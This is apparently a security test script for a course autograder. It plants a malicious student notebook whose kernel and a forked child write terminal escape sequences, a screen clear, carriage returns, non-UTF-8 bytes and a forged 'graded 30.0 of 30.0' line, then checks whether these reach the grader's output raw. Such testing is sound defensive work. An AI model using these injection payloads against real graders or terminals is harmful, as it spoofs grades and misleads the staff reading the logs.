"""a04: what a kernel writes on its own file descriptors 1 and 2 (not IOPub) "reaches the grader's log labelled,
64 kB at most". Does it reach the TA's terminal raw? The hand-in writes, with os.write on fds 1 and 2 of the kernel
process and of a child it forks, and through the observer (a probe-called function of ps1 that writes the same
bytes on fds 1 and 2 while the observer's child runs it):
  an OSC window title, a screen clear, a cursor move home, carriage returns, and a forged line
  "zz_honest graded 30.0 of 30.0", plus bytes that are not UTF-8 (0xff 0xfe), 100 kB in all (past the 64 kB cap).
The grading command's stdout and stderr are searched for raw ESC (0x1b), BEL, CR and 0xff bytes and for the forged
line at the start of a line. Through `python -m grader.grade --course-dir DIR --workers 1`, as root, beside
an honest student."""
import os, sys, subprocess, time
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common18 import *  # noqa

A = "ps1_memory"
DEST = "/tmp/attack18-a04"

PAYLOAD = ("P = b'\\x1b]0;PWNED-title\\x07\\x1b[2J\\x1b[H\\r\\nzz_honest graded 30.0 of 30.0\\r\\n\\xff\\xfe\\x1b[31mRED\\x1b[0m\\n'\n")
KERNEL = PAYLOAD + """import os
os.write(1, P); os.write(2, P)
os.write(2, P * 1000)
if os.fork() == 0:
    os.write(1, P); os.write(2, P); os._exit(0)
os.wait()
"""
# training_memory is called by the observer's child (probe); the escape goes out on that process's fds 1 and 2
OBS = PAYLOAD + """import os
def training_memory(*a, **k):
    os.write(1, P); os.write(2, P)
    return 0
"""


def main():
    h = honest(A)
    m = notebook(overrides={"quiz_q1": KERNEL, "training_memory": OBS}, assignment=A)
    course(DEST, {"aa_honest": h, "mallory": m, "zz_honest": h}, A)
    env = {**os.environ, **CANARY_ENV}
    cmd = [PY, "-m", "grader.grade", "--course-dir", DEST, "--workers", "1"]
    print("$", " ".join(c.replace(ROOT, "<clone>") for c in cmd), flush=True)
    t0 = time.time()
    r = subprocess.run(cmd, cwd=ROOT, env=env, capture_output=True, timeout=1500)
    print(f"grade rc={r.returncode} in {time.time() - t0:.0f}s")
    for name, data in (("stdout", r.stdout), ("stderr", r.stderr)):
        forged = [l for l in data.split(b"\n") if l.lstrip(b"\r").startswith(b"zz_honest graded 30.0")]
        print(f"{name}: {len(data)} bytes; raw ESC {data.count(bytes([27]))}, BEL {data.count(bytes([7]))}, "
              f"CR {data.count(bytes([13]))}, 0xff {data.count(bytes([255]))}; 'PWNED' {data.count(b'PWNED')}, "
              f"escaped ESC shown as text {data.count(b'x1b')}; forged lines at a line start: {len(forged)}")
        i = data.find(b"PWNED")
        if i >= 0:
            print(f"  around the first PWNED in {name}:", repr(data[max(0, i - 200):i + 120]))
    logs = []
    for d, _, fs in os.walk(DEST):
        for f in fs:
            if f.endswith((".log", ".txt", ".json")):
                p = os.path.join(d, f)
                b = open(p, "rb").read()
                if b"PWNED" in b:
                    logs.append((p.replace(DEST, "<course>"), b.count(bytes([27])), b.count(b"PWNED")))
    print("files of the course holding PWNED (path, raw ESC, PWNED):", logs)
    for s, v in sorted(scores(DEST).items()):
        print(s, v["score"], "/", v["max"])
    cleanup(DEST)


if __name__ == "__main__":
    main()
